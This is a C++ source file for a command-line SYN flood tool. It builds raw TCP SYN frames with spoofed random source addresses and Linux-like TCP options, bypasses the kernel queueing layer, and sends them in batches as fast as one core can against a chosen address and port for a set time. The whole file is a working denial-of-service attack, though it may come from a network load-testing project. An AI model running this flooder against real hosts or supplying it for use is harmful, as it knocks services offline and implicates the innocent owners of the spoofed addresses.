// SYNs from random sources to one TCP port, as fast as one core sends them.
//
//   syn_flood IFACE MAC ADDRESS PORT SECONDS SEED
//
// Sources are 11.0.0.0 to 126.255.255.255; with options as a Linux SYN has them. Prints "sent N" at the end.
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include <cstring>
#include <random>

#include "wire/checksum.h"

namespace {

constexpr unsigned kBatch = 64;
constexpr size_t kTcp = 40, kSize = 14 + 20 + kTcp;

double seconds_now() {
    timespec t{};
    clock_gettime(CLOCK_MONOTONIC, &t);
    return double(t.tv_sec) + double(t.tv_nsec) * 1e-9;
}

void put(uint8_t* at, uint32_t value) {
    value = htonl(value);
    std::memcpy(at, &value, 4);
}

void make_syn(uint8_t* frame, uint32_t to, uint16_t port, std::mt19937_64& random) {
    uint8_t* ip = frame + 14;
    uint8_t* tcp = ip + 20;
    const uint32_t from = (11u + uint32_t(random() % 116)) << 24 | uint32_t(random() & 0xffffff);
    const uint8_t head[20] = {0x45, 0, 0, 20 + kTcp, 0, 0, 0x40, 0, 64, 6};
    std::memcpy(ip, head, sizeof head);
    put(ip + 12, from);
    put(ip + 16, to);
    vma::Checksum ip_sum;
    ip_sum.add(vma::ByteView(ip, 20));
    vma::store_be16(ip + 10, ip_sum.finish());
    std::memset(tcp, 0, kTcp);
    put(tcp, uint32_t(1024 + random() % 60000) << 16 | port);
    put(tcp + 4, uint32_t(random()));
    tcp[12] = kTcp / 4 << 4;
    tcp[13] = 2;
    tcp[14] = 0xfa;
    // MSS 1460, SACK permitted, timestamps, window scale 7.
    const uint8_t options[20] = {2, 4, 5, 0xb4, 4, 2, 8, 10, 0, 0, 1, 0, 0, 0, 0, 0, 1, 3, 3, 7};
    std::memcpy(tcp + 20, options, sizeof options);
    put(tcp + 28, uint32_t(random()));
    vma::Checksum sum;
    sum.add_pseudo_v4(from, to, 6, kTcp);
    sum.add(vma::ByteView(tcp, kTcp));
    vma::store_be16(tcp + 16, sum.finish());
}

}  // namespace

int main(int argc, char** argv) {
    if (argc != 7) {
        fprintf(stderr, "usage: syn_flood IFACE MAC ADDRESS PORT SECONDS SEED\n");
        return 2;
    }
    const int fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0);
    sockaddr_ll address{};
    address.sll_family = AF_PACKET;
    address.sll_ifindex = int(if_nametoindex(argv[1]));
    const int on = 1;
    ifreq request{};
    strncpy(request.ifr_name, argv[1], IFNAMSIZ - 1);
    uint8_t mac[6];
    in_addr to{};
    if (fd < 0 || bind(fd, reinterpret_cast<sockaddr*>(&address), sizeof address) != 0 ||
        setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &on, sizeof on) != 0 ||
        ioctl(fd, SIOCGIFHWADDR, &request) != 0 ||
        sscanf(argv[2], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", mac, mac + 1, mac + 2, mac + 3, mac + 4,
               mac + 5) != 6 ||
        inet_aton(argv[3], &to) == 0) {
        fprintf(stderr, "syn_flood: %s\n", strerror(errno));
        return 1;
    }
    std::mt19937_64 random(strtoull(argv[6], nullptr, 0));
    static uint8_t frames[kBatch][kSize];
    iovec pieces[kBatch];
    mmsghdr messages[kBatch] = {};
    for (unsigned i = 0; i < kBatch; i++) {
        std::memcpy(frames[i], mac, 6);
        std::memcpy(frames[i] + 6, request.ifr_hwaddr.sa_data, 6);
        frames[i][12] = 8;
        pieces[i] = {frames[i], kSize};
        messages[i].msg_hdr.msg_iov = &pieces[i];
        messages[i].msg_hdr.msg_iovlen = 1;
    }
    unsigned long long sent = 0;
    for (const double end = seconds_now() + atof(argv[5]); seconds_now() < end;) {
        for (auto& frame : frames)
            make_syn(frame, ntohl(to.s_addr), uint16_t(atoi(argv[4])), random);
        const int n = sendmmsg(fd, messages, kBatch, 0);
        if (n > 0) sent += unsigned(n);
    }
    printf("sent %llu\n", sent);
    return 0;
}
